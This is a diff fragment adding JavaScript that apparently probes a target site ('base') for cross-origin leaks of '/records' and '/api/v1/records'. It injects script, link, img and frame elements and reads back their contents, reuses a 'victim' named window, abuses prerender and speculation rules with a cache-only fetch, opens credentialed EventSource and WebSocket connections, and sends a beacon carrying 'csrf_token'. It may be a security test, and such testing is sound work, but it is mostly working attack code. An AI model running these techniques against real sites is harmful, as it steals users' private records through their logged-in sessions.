@@ -64,6 +64,43 @@ async base => {
         }
       } finally { opened.close(); }
     });
+  const kinds = {
+    script: "src", link: "href", img: "src", audio: "src", track: "src", frame: "src"};
+  for (const [kind, name] of Object.entries(kinds))
+    await attempt(`element ${kind}`, async () => {
+      const node = element(kind, {[name]: base + "/api/v1/records", rel: "stylesheet"});
+      const ended = loaded(node);
+      added(node);
+      await within(ended, 2);
+      return (node.contentDocument || node.sheet || {}).documentElement?.outerHTML || "";
+    });
+  await attempt("named window", async () => {
+    const opened = open(base + "/records", "victim");
+    await new Promise(done => setTimeout(done, 1500));
+    try { return open("", "victim").document.documentElement.outerHTML; }
+    finally { opened.close(); }
+  });
+  await attempt("prerender", async () => {
+    const urls = [base + "/records", base + "/my"];
+    const rules = JSON.stringify({prerender: [{urls, eagerness: "immediate"}],
+      prefetch: [{urls, eagerness: "immediate"}]});
+    document.head.append(element("script", {type: "speculationrules", text: rules}));
+    document.head.append(element("link", {rel: "prerender", href: base + "/records"}));
+    await new Promise(done => setTimeout(done, 1500));
+    return (await fetch(base + "/records", {cache: "only-if-cached", mode: "same-origin"})).text();
+  });
+  await attempt("events", () => new Promise(done => {
+    const source = new EventSource(base + "/api/v1/records", {withCredentials: true});
+    source.onmessage = event => done(event.data);
+    source.onerror = () => { source.close(); done(""); };
+  }));
+  await attempt("socket", () => new Promise(done => {
+    const socket = new WebSocket(base.replace("http", "ws") + "/api/v1/records");
+    socket.onmessage = event => done(event.data);
+    socket.onopen = () => done("own-vo");
+    socket.onerror = () => done("");
+  }));
+  await attempt("beacon", async () => navigator.sendBeacon(base + "/api/v1/push", "csrf_token="));
   await attempt("worker", async () => {
     const seen = [];
     navigator.serviceWorker.onmessage = event => seen.push(event.data);
